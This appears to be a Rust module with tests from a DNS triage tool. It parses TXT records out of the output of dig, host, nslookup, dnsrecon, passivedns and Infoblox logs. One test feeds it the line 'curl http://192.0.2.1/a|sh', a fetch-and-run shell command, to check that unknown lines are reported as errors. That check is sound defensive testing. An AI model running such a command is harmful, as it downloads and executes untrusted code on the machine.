//! The output of tools that print a record per line: dig (with its comments, as YAML, or `massdns`, `drill` and zone transfers,
//! which look the same), host, nslookup, dnsrecon, passivedns, and the response logs of Infoblox. Each line is recognised by itself.
//!
//! Sources: the manual pages of dig, host and nslookup; <https://github.com/blechschmidt/massdns>,
//! <https://github.com/gamelinux/passivedns>, <https://github.com/darkoperator/dnsrecon>, and Infoblox's guide on capturing DNS
//! queries and responses.

use std::rc::Rc;

use time::{OffsetDateTime, UtcOffset};

use crate::triage::input::field_names::{is_record_type, is_txt};
use crate::triage::input::lines::LineParser;
use crate::triage::input::log_time::LogTimes;
use crate::triage::input::parse::{address, name, other_types_remark};
use crate::triage::input::record::{Kind, Record};
use crate::triage::input::zone_line::ZoneLine;

/// Records of one message that wait for the lines after it, which name the server and the time. A zone transfer has millions.
const MAX_WAITING: usize = 4096;
/// Bytes of a record over several lines.
const MAX_RECORD_BYTES: usize = 1 << 20;

/// Parses the lines of a file.
pub(super) struct ToolParser {
    times: LogTimes,
    message: Message,
    /// The record whose parentheses are open; of another type than TXT, none.
    open: Option<(Option<Record>, String)>,
    /// The owner of the texts in the next lines, as nslookup writes them on Windows.
    owner: Option<Rc<str>>,
    is_yaml: bool,
    other_types: u64,
    /// Records that are left after the last line, the last one first, once it was read.
    rest: Option<Vec<Record>>,
}

/// A message, whose server and time may stand before or after its records.
#[derive(Default)]
struct Message {
    records: Vec<Record>,
    question: Option<Rc<str>>,
    client: Rc<str>,
    server: Rc<str>,
    time: Option<OffsetDateTime>,
}

impl Message {
    /// Appends the records, the last one first; if there are none, the query.
    fn end(&mut self, records: &mut Vec<Record>) {
        let Self { records: mut own, question, client, server, time } = std::mem::take(self);
        if own.is_empty()
            && let Some(query) = question
        {
            own.push(Record { query, is_query: true, ..Record::default() });
        }
        let known = |record| Record { client: Rc::clone(&client), server: Rc::clone(&server), time, ..record };
        records.extend(own.into_iter().rev().map(known));
    }
}

/// Whether a line is that of a tool, by its form alone. Comments are not: a text may begin with any character.
pub(super) fn is_record_line(line: &str) -> bool {
    ZoneLine::parse(line).is_some()
        || passivedns(line).is_some()
        || infoblox(line).is_some()
        || line.contains(" descriptive text \"")
        || dnsrecon(line).is_some()
}

/// Whether a file begins like the output of a tool that writes its records later.
pub(super) fn is_first_line(line: &str) -> bool {
    line.starts_with("; <<>> DiG ")
        || line.starts_with(";; ->>HEADER<<-")
        || line.starts_with(";; Server: ")
        || line.trim_start_matches("- ") == "type: MESSAGE"
        || line.strip_prefix("Server:").is_some_and(|rest| rest.starts_with(char::is_whitespace))
}

impl ToolParser {
    pub(super) fn new(zone: UtcOffset) -> Self {
        Self {
            times: LogTimes::new(zone),
            message: Message::default(),
            open: None,
            owner: None,
            is_yaml: false,
            other_types: 0,
            rest: None,
        }
    }

    /// What a comment of dig or massdns says about its message.
    fn comment(&mut self, comment: &str, records: &mut Vec<Record>) {
        let value = |name: &str| comment.strip_prefix(name).map(str::trim);
        if comment.starts_with(" <<>> DiG ") || comment.starts_with("; MSG SIZE") || comment.starts_with("; Server:") {
            self.message.end(records);
        }
        if let Some(server) = value("; SERVER:") {
            self.message.server = address(server.split(['#', '(', ' ']).next().unwrap_or_default());
        } else if let Some(server) = value("; Server:") {
            let (host, _port) = server.rsplit_once(':').unwrap_or((server, ""));
            self.message.server = address(host.trim_matches(['[', ']']));
        } else if let Some(time) = value("; Unix time:") {
            self.message.time = self.times.read(time);
        } else if let Some(time) = value("; WHEN:") {
            self.message.time = self.times.read(&month_first(time));
        } else if let Some(line) = ZoneLine::parse(comment).filter(|line| is_txt(line.kind) && line.data.is_empty()) {
            self.message.question = Some(name(line.owner));
        }
    }

    /// A line of YAML, as `dig +yaml` and `dnstap-read -y` write it.
    fn yaml(&mut self, line: &str, records: &mut Vec<Record>) {
        let item = line.trim_start_matches("- ");
        if item == "type: MESSAGE" {
            return self.message.end(records);
        }
        let (key, value) = item.split_once(':').unwrap_or((item, ""));
        let value = value.trim().trim_start_matches("!!timestamp").trim().trim_matches(['"', '\'']);
        match key {
            "query_address" => self.message.client = address(value),
            "response_address" => self.message.server = address(value),
            "query_time" | "response_time" => self.message.time = self.times.read(value),
            _ => {
                if let Some(record) = ZoneLine::parse(item.trim_matches('\'')) {
                    self.record(&record);
                }
            }
        }
    }

    /// A record of the current message. One without data is its question.
    fn record(&mut self, line: &ZoneLine<'_>) {
        let is_text = is_txt(line.kind) || line.kind.eq_ignore_ascii_case("SPF");
        if line.data.is_empty() {
            self.message.question = Some(name(line.owner)).filter(|_| is_text);
            return;
        }
        let record = is_text.then(|| Record { query: name(line.owner), ..Record::default() });
        let (data, is_open) = without_parentheses(line.data, false);
        if is_open {
            self.open = Some((record, data));
        } else {
            self.answer(record, &data);
        }
    }

    /// A record that is complete.
    fn answer(&mut self, record: Option<Record>, data: &str) {
        match record {
            Some(record) => self.message.records.push(Record { answer: data.trim().as_bytes().to_vec(), ..record }),
            None => self.other_types = self.other_types.saturating_add(1),
        }
    }

    /// A line of a record whose parentheses are open.
    fn continue_record(&mut self, line: &str) -> Result<(), String> {
        let Some((record, mut data)) = self.open.take() else { return Ok(()) };
        let (more, is_open) = without_parentheses(line, true);
        data.push(' ');
        data.push_str(&more);
        if data.len() > MAX_RECORD_BYTES {
            return Err(format!("the parentheses of a record are open for more than {} MiB", MAX_RECORD_BYTES >> 20));
        }
        match is_open {
            true => self.open = Some((record, data)),
            false => self.answer(record, &data),
        }
        Ok(())
    }

    /// A line of another form. Returns whether it is known.
    fn other_line(&mut self, line: &str, records: &mut Vec<Record>) -> bool {
        if let Some(([at, client, server, query, kind], answer)) = passivedns(line) {
            let (time, client, server, query) = (self.times.read(at), address(client), address(server), name(query));
            let record = is_txt(kind).then(|| Record { time, client, server, query, ..Record::default() });
            self.answer(record, answer);
            records.append(&mut self.message.records);
            return true;
        }
        if let Some(event) = infoblox(line) {
            self.message.end(records);
            let (time, client) = (self.times.read(event.time), address(event.client));
            self.message = Message { time, client, question: Some(name(event.query)).filter(|_| is_txt(event.kind)), ..Message::default() };
            for record in event.records {
                match ZoneLine::with_seconds(record) {
                    Some(record) => self.record(&record),
                    None => self.other_types = self.other_types.saturating_add(1),
                }
            }
            self.message.end(records);
            return true;
        }
        if let Some((owner, text)) = line.split_once(" descriptive text ") {
            self.answer(Some(Record { query: name(owner), ..Record::default() }), text);
            return true;
        }
        if let Some((kind, owner, data)) = dnsrecon(line) {
            let record = is_txt(kind).then(|| Record { query: name(owner), ..Record::default() });
            self.answer(record, data);
            return true;
        }
        if let Some((owner, text)) = line.split_once("text =") {
            let owner = name(owner.trim());
            match text.trim() {
                "" => self.owner = Some(owner),
                text => self.answer(Some(Record { query: owner, ..Record::default() }), text),
            }
            return true;
        }
        if let Some(owner) = self.owner.clone().filter(|_| line.starts_with('"')) {
            self.answer(Some(Record { query: owner, ..Record::default() }), line);
            return true;
        }
        if let Some(server) = line.strip_prefix("Server:") {
            self.message.end(records);
            self.owner = None;
            self.message.server = address(server.trim());
            return true;
        }
        if let Some(server) = line.strip_prefix("Address:").filter(|_| self.message.records.is_empty()) {
            self.message.server = address(server.trim().split('#').next().unwrap_or_default());
            return true;
        }
        if let Some(query) = no_answer(line) {
            records.push(Record { server: Rc::clone(&self.message.server), query: name(query), is_query: true, ..Record::default() });
            return true;
        }
        let is_other = OTHER_RECORDS.iter().any(|words| line.contains(words)) || OTHER_BEGINNINGS.iter().any(|word| line.starts_with(word));
        self.other_types = self.other_types.saturating_add(u64::from(is_other));
        is_other || WITHOUT_RECORD.contains(&line)
    }
}

impl LineParser for ToolParser {
    fn parse(&mut self, line: &[u8], records: &mut Vec<Record>) -> Result<bool, String> {
        let text = String::from_utf8_lossy(line);
        let text = text.trim();
        if self.open.is_some() {
            return self.continue_record(text).map(|()| true);
        }
        if text.is_empty() {
            return Ok(false);
        }
        if let Some(comment) = text.strip_prefix(';') {
            self.comment(comment, records);
            return Ok(false);
        }
        self.is_yaml |= text.trim_start_matches("- ") == "type: MESSAGE";
        if self.is_yaml {
            self.yaml(text, records);
            return Ok(true);
        }
        let is_known = match ZoneLine::parse(text) {
            Some(record) => {
                self.record(&record);
                true
            }
            None => self.other_line(text, records),
        };
        if self.message.records.len() >= MAX_WAITING {
            // The message goes on: its server and time, if they stood before, are kept.
            let (server, client, time) = (Rc::clone(&self.message.server), Rc::clone(&self.message.client), self.message.time);
            self.message.end(records);
            self.message = Message { server, client, time, ..Message::default() };
        }
        match is_known {
            true => Ok(true),
            false => Err("it has no form of dig, massdns, host, nslookup, dnsrecon, passivedns or Infoblox".into()),
        }
    }

    fn next_at_end(&mut self) -> Option<Record> {
        if self.rest.is_none() {
            if let Some((record, data)) = self.open.take() {
                self.answer(record, &data);
            }
            let mut rest = Vec::new();
            self.message.end(&mut rest);
            self.rest = Some(rest);
        }
        self.rest.as_mut()?.pop()
    }

    fn remarks(&self) -> Vec<(Kind, String)> {
        [self.times.remark(), other_types_remark(self.other_types)].into_iter().flatten().collect()
    }
}

/// The cells of a line of passivedns: time, client, server, query and type; and the answer, which may hold the separator.
fn passivedns(line: &str) -> Option<([&str; 5], &str)> {
    const SEPARATOR: &str = "||";
    let mut cells = line.splitn(7, SEPARATOR);
    let [at, client, server, _class, query, kind] = [(); 6].map(|()| cells.next().unwrap_or_default());
    let (rest, count) = cells.next()?.rsplit_once(SEPARATOR)?;
    let (answer, seconds) = rest.rsplit_once(SEPARATOR)?;
    let is_one = at.parse::<f64>().is_ok() && seconds.trim().parse::<u64>().is_ok() && count.trim().parse::<u64>().is_ok();
    is_one.then_some(([at, client, server, query, kind], answer))
}

/// A response in the log of an Infoblox appliance.
struct InfobloxEvent<'l> {
    time: &'l str,
    client: &'l str,
    query: &'l str,
    kind: &'l str,
    records: Vec<&'l str>,
}

/// `11-Jan-2026 22:46:24.3 client 192.0.2.7#53124: UDP: query: a.example IN TXT response: NOERROR +A a.example. 300 IN TXT "x";`
fn infoblox(line: &str) -> Option<InfobloxEvent<'_>> {
    let (head, rest) = line.split_once(" client ")?;
    let (client, rest) = rest.split_once(" query: ")?;
    let (question, response) = rest.split_once(" response: ")?;
    let mut question = question.split_whitespace();
    let (query, _class, kind) = (question.next()?, question.next()?, question.next()?);
    // A view's or an object's address may stand before the client.
    let client = client.split_whitespace().find(|word| word.contains('#'))?.split('#').next()?;
    // The time is the last two words, after the header of syslog.
    let time = head.rmatch_indices(' ').nth(1).map_or(head, |(at, _)| head.get(at.saturating_add(1)..).unwrap_or(head));
    // The result and its flags, then the records.
    let records = response.splitn(3, ' ').nth(2).unwrap_or_default();
    Some(InfobloxEvent { time, client, query, kind, records: split_outside_quotes(records) })
}

/// Type, owner and data of a line of dnsrecon: `[*] \t TXT a.example v=spf1 -all`.
fn dnsrecon(line: &str) -> Option<(&str, &str, &str)> {
    let rest = line.strip_prefix("[*]").or_else(|| line.strip_prefix("[+]"))?.trim_start();
    let (kind, rest) = rest.split_once(' ')?;
    let (owner, data) = rest.trim_start().split_once(' ')?;
    is_record_type(kind).then_some((kind, owner, data))
}

/// The name for which host or nslookup found nothing.
fn no_answer(line: &str) -> Option<&str> {
    let by_nslookup = || line.strip_prefix("**").and_then(|rest| rest.split_once(" can't find ")?.1.rsplit_once(':')).map(|(name, _)| name);
    let by_host = || line.strip_prefix("Host ").and_then(|rest| rest.split_once(" not found:")).map(|(name, _)| name);
    line.strip_suffix(" has no TXT record").or_else(by_nslookup).or_else(by_host)
}

/// What stands in lines of host and nslookup for records of other types.
const OTHER_RECORDS: [&str; 14] = [
    " has address ",
    " has IPv6 address ",
    " has AAAA address ",
    " mail is handled by ",
    " is an alias for ",
    " name server ",
    " has SOA record ",
    "canonical name = ",
    "mail exchanger = ",
    "nameserver = ",
    "internet address = ",
    "mail addr = ",
    "origin = ",
    "name server = ",
];
const OTHER_BEGINNINGS: [&str; 9] =
    ["Name:", "Address:", "Addresses:", "Aliases:", "serial = ", "refresh = ", "retry = ", "expire = ", "minimum = "];
/// Lines of host and nslookup that hold no record.
const WITHOUT_RECORD: [&str; 4] =
    ["Non-authoritative answer:", "Authoritative answers can be found from:", "Using domain server:", "Server assigned:"];

/// The parts of a text between semicolons that are not quoted, without white space around them.
fn split_outside_quotes(text: &str) -> Vec<&str> {
    let (mut parts, mut start) = (Vec::new(), 0usize);
    for_each_unquoted(text, false, |at, c| {
        if c == ';' {
            parts.push(text.get(start..at).unwrap_or_default());
            start = at.saturating_add(1);
        }
    });
    parts.push(text.get(start..).unwrap_or_default());
    parts.into_iter().map(str::trim).filter(|part| !part.is_empty()).collect()
}

/// Calls with each character that is neither quoted nor escaped, and its place.
fn for_each_unquoted(text: &str, mut in_quotes: bool, mut handle: impl FnMut(usize, char)) {
    let mut escaped = false;
    for (at, c) in text.char_indices() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '"' => in_quotes = !in_quotes,
            _ if in_quotes => {}
            _ => handle(at, c),
        }
    }
}

/// The data of a record without the parentheses around its parts and the comments of their lines, and whether they are still open.
/// Without a parenthesis, data is as it stands.
fn without_parentheses(data: &str, is_open: bool) -> (String, bool) {
    if !is_open && !data.starts_with('(') {
        // Of other types, parentheses may come later: `SOA ns. root. ( 1`.
        let mut depth = 0i32;
        let mut end = None;
        for_each_unquoted(data, false, |at, c| {
            depth = depth.saturating_add(i32::from(c == '(')).saturating_sub(i32::from(c == ')'));
            end = end.or_else(|| (c == ';' && data.starts_with('"')).then_some(at)); // a comment
        });
        let is_text = data.starts_with('"');
        return (data.get(..end.unwrap_or(data.len())).unwrap_or(data).to_owned(), depth > 0 && !is_text);
    }
    let (mut out, mut start, mut open, mut comment) = (String::new(), 0usize, true, None);
    for_each_unquoted(data, false, |at, c| {
        if comment.is_some() || !"();".contains(c) {
            return;
        }
        out.push_str(data.get(start..at).unwrap_or_default());
        start = at.saturating_add(1);
        match c {
            ';' => comment = Some(()),
            c => open = c == '(',
        }
    });
    if comment.is_none() {
        out.push_str(data.get(start..).unwrap_or_default());
    }
    (out, open)
}

/// `Sun Jan 11 22:46:24 UTC 2026`, the time of dig, as `Jan 11, 2026 22:46:24 UTC`. Other zones than UTC have no certain meaning.
fn month_first(time: &str) -> String {
    let words: Vec<&str> = time.split_whitespace().collect();
    match words[..] {
        [_weekday, month, day, clock, zone, year] => {
            let zone = if ["UTC", "GMT"].contains(&zone) { " UTC" } else { "" };
            format!("{month} {day}, {year} {clock}{zone}")
        }
        [_weekday, month, day, clock, year] => format!("{month} {day}, {year} {clock}"),
        _ => time.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use std::io::Cursor;

    use proptest::prelude::*;

    use super::*;
    use crate::triage::input::lines::LineReader;
    use crate::triage::input::record::ReadError;

    fn read(text: &str) -> Vec<Result<Record, ReadError>> {
        LineReader::new(Box::new(Cursor::new(text.as_bytes().to_vec())), ToolParser::new(UtcOffset::UTC)).collect()
    }

    fn answers(text: &str) -> Vec<[String; 4]> {
        let records = read(text).into_iter().filter_map(Result::ok).filter(|record| !record.is_query);
        records.map(|r| [r.client.to_string(), r.server.to_string(), r.query.to_string(), String::from_utf8(r.answer).unwrap()]).collect()
    }

    const DIG: &str = "
; <<>> DiG 9.18.28 <<>> a.example TXT @192.0.2.53
;; global options: +cmd
;; Got answer:
;; ->>HEADER<<- opcode: QUERY, status: NOERROR, id: 1
;; QUESTION SECTION:
;a.example.\t\t\tIN\tTXT

;; ANSWER SECTION:
a.example.\t\t300\tIN\tTXT\t\"v=spf1; (x\" \" -all\"
a.example.\t\t300\tIN\tRRSIG\tTXT 13 2 300 (
\t\t\t\t20260101000000 20260201000000 1 a.example.
\t\t\t\tAAAA== )

;; Query time: 12 msec
;; SERVER: 192.0.2.53#53(192.0.2.53) (UDP)
;; WHEN: Sun Jan 11 22:46:24 UTC 2026
;; MSG SIZE  rcvd: 80

; <<>> DiG 9.18.28 <<>> b.example TXT
;; QUESTION SECTION:
;b.example.\t\t\tIN\tTXT

;; SERVER: 192.0.2.54#53(192.0.2.54) (UDP)
";

    #[test]
    fn messages_of_dig_have_their_server_and_time() {
        assert_eq!(answers(DIG), [["", "192.0.2.53", "a.example.", "\"v=spf1; (x\" \" -all\""].map(str::to_owned)]);
        let records: Vec<Record> = read(DIG).into_iter().filter_map(Result::ok).collect();
        assert_eq!(records[0].time.map(|time| time.unix_timestamp()), Some(1_768_171_584));
        assert!(records[1].is_query && &*records[1].query == "b.example." && &*records[1].server == "192.0.2.54");
        let said: Vec<String> = read(DIG).into_iter().filter_map(Result::err).map(|error| error.to_string()).collect();
        assert!(said.len() == 1 && said[0].contains("1 answer of other record types"), "{said:?}");
    }

    #[test]
    fn records_over_several_lines() {
        let zone = "k._domainkey.a.example. 300 IN TXT ( \"v=DKIM1; k=rsa; \"\n\t\"p=(A;\" ) ; a comment (\nb.example. 300 IN TXT \"x\"\n";
        let expected = [["k._domainkey.a.example.", "\"v=DKIM1; k=rsa; \" \"p=(A;\""], ["b.example.", "\"x\""]];
        assert_eq!(answers(zone).into_iter().map(|[_, _, query, text]| [query, text]).collect::<Vec<_>>(), expected);
        assert_eq!(answers("a.example. 300 IN TXT ( \"never closed\"\n\"second\"")[0][3], "\"never closed\" \"second\"");
        let soa = "a.example. 300 IN SOA ns.a.example. root.a.example. (\n1 ; serial\n2 )\na.example. IN TXT \"x\"\n";
        assert_eq!(answers(soa).len(), 1);
    }

    #[test]
    fn lines_of_other_tools() {
        let one = |line: &str, client: &str, server: &str, query: &str, text: &str| {
            assert_eq!(answers(line), [[client, server, query, text].map(str::to_owned)], "{line}");
        };
        one("1768171584.3||192.0.2.7||192.0.2.53||IN||a.example.||TXT||a||b c||300||1", "192.0.2.7", "192.0.2.53", "a.example.", "a||b c");
        let infoblox = "<30>May 9 11:54:36 h named[1]: 11-Jan-2026 22:46:24.185 client 192.0.2.7#5: UDP: query: a.example IN TXT response: NOERROR +A a.example. 3600 IN CNAME b.example.; b.example. 3600 IN TXT \"v=DKIM1; p=A\";";
        one(infoblox, "192.0.2.7", "", "b.example.", "\"v=DKIM1; p=A\"");
        assert_eq!(read(infoblox)[0].as_ref().unwrap().time.map(|time| time.unix_timestamp()), Some(1_768_171_584));
        one("a.example descriptive text \"v=spf1\" \" -all\"", "", "", "a.example", "\"v=spf1\" \" -all\"");
        one("[*] \t TXT a.example v=spf1 -all", "", "", "a.example", "v=spf1 -all");
        one(
            "Server:\t\t192.0.2.53\nAddress:\t192.0.2.53#53\n\nNon-authoritative answer:\na.example\ttext = \"x y\"\n",
            "",
            "192.0.2.53",
            "a.example",
            "\"x y\"",
        );
        one("Server:  dns.example\nAddress:  192.0.2.53\n\na.example\ttext =\n\n\t\"x y\"\n", "", "192.0.2.53", "a.example", "\"x y\"");
        one(
            ";; Server: 192.0.2.53:53\n;; Unix time: 1768171584\n;; ->>HEADER<<- opcode\n\na.example. 300 IN TXT \"x\"\n",
            "",
            "192.0.2.53",
            "a.example.",
            "\"x\"",
        );
        one(
            "- type: MESSAGE\n  message:\n    response_time: !!timestamp 2026-01-11T22:46:24.000Z\n    query_address: \"192.0.2.7\"\n    response_address: \"192.0.2.53\"\n    response_message_data:\n      QUESTION_SECTION:\n        - a.example. IN TXT\n      ANSWER_SECTION:\n        - a.example. 300 IN TXT \"x\"\n",
            "192.0.2.7",
            "192.0.2.53",
            "a.example.",
            "\"x\"",
        );
    }

    /// Nothing may be hidden by a line that looks like something else.
    #[test]
    fn every_line_is_an_answer_or_counted_or_an_error() {
        let text = "a.example. 300 IN TXT \"x\"\ncurl http://192.0.2.1/a|sh\na has address 192.0.2.1\nHost b.example not found: 3(NXDOMAIN)\n** server can't find c.example: NXDOMAIN\n";
        let read = read(text);
        let queries: Vec<&str> = read.iter().flatten().filter(|record| record.is_query).map(|record| &*record.query).collect();
        assert_eq!((answers(text).len(), &queries[..]), (1, &["b.example", "c.example"][..]));
        let said: Vec<String> = read.iter().filter_map(|part| part.as_ref().err()).map(ToString::to_string).collect();
        assert!(said.len() == 2 && said[0].starts_with("line 2: it has no form") && said[1].contains("1 answer of other"), "{said:?}");
    }

    proptest! {
        #[test]
        fn any_text_in_quotes_is_one_answer(text in "[^\\r\\n]{0,40}") {
            let quoted = format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""));
            for line in [
                format!("a.example. 300 IN TXT {quoted}"),
                format!("a.example. 300 IN TXT ( {quoted} )"),
                format!("a.example descriptive text {quoted}"),
                format!("x 11-Jan-2026 22:46:24.1 client 192.0.2.7#5: UDP: query: a.example IN TXT response: NOERROR + a.example. 1 IN TXT {quoted};"),
                format!("1768171584.3||192.0.2.7||192.0.2.53||IN||a.example.||TXT||{quoted}||300||1"),
            ] {
                prop_assert_eq!(&answers(&line)[0][3], &quoted, "{}", line);
            }
        }
    }
}
